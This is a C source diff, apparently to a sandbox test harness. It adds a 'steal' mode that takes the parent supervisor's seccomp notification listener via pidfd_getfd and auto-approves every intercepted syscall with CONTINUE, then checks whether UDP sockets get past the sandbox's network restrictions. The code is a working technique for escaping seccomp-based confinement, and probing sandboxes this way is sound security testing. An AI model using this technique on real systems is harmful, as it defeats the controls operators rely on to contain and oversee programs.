@@ -11,7 +11,10 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <linux/seccomp.h>
+#include <sys/ioctl.h>
 #include <sys/ptrace.h>
+#include <sys/syscall.h>
 #include <sys/socket.h>
 #include <sys/time.h>
 #include <sys/wait.h>
@@ -248,6 +251,45 @@ static int sigcount(void) {
     return 0;
 }
 
+/* The supervisor (mifrun, the parent) holds the seccomp listener: take it with
+   pidfd_getfd (same uid, no Yama here) and answer the program's own notifications with
+   CONTINUE from a thread, racing the supervisor; then 20 connected datagrams. */
+static int stolen = -1;
+static void *answer(void *x) {
+    (void)x;
+    for (;;) {
+        struct seccomp_notif n; struct seccomp_notif_resp r;
+        memset(&n, 0, sizeof n);
+        if (ioctl(stolen, SECCOMP_IOCTL_NOTIF_RECV, &n)) { if (errno == EBADF) return 0; continue; }
+        memset(&r, 0, sizeof r);
+        r.id = n.id; r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+        ioctl(stolen, SECCOMP_IOCTL_NOTIF_SEND, &r);
+    }
+}
+static int steal(void) {
+    int pf = syscall(SYS_pidfd_open, getppid(), 0);
+    for (int fd = 0; pf >= 0 && fd < 64 && stolen < 0; fd++) {
+        int x = syscall(SYS_pidfd_getfd, pf, fd, 0);
+        if (x < 0) continue;
+        char p[64], l[128] = {0};
+        snprintf(p, sizeof p, "/proc/self/fd/%d", x);
+        if (readlink(p, l, sizeof l - 1) > 0 && strstr(l, "seccomp")) stolen = x;
+        else close(x);
+    }
+    printf("stolen listener=%d\n", stolen);
+    pthread_t t;
+    if (stolen >= 0) pthread_create(&t, 0, answer, 0);
+    struct sockaddr_storage ss; socklen_t l = addr(v6 ? SVC6 : SVC4, 9001, &ss);
+    for (int i = 0; i < 20; i++) {
+        int u = udp();
+        connect(u, (void *)&ss, l);
+        if (bound(u) == 0) leaked(u, i, "listener taken");
+        close(u);
+    }
+    control();
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc < 3) return 2;
     v6 = argv[2][0] == '6';
@@ -259,5 +301,6 @@ int main(int argc, char **argv) {
     if (!strcmp(m, "unbind")) return unbind(x);
     if (!strcmp(m, "ptzombie")) return ptzombie(atoi(x));
     if (!strcmp(m, "sigcount")) return sigcount();
+    if (!strcmp(m, "steal")) return steal();
     return 2;
 }
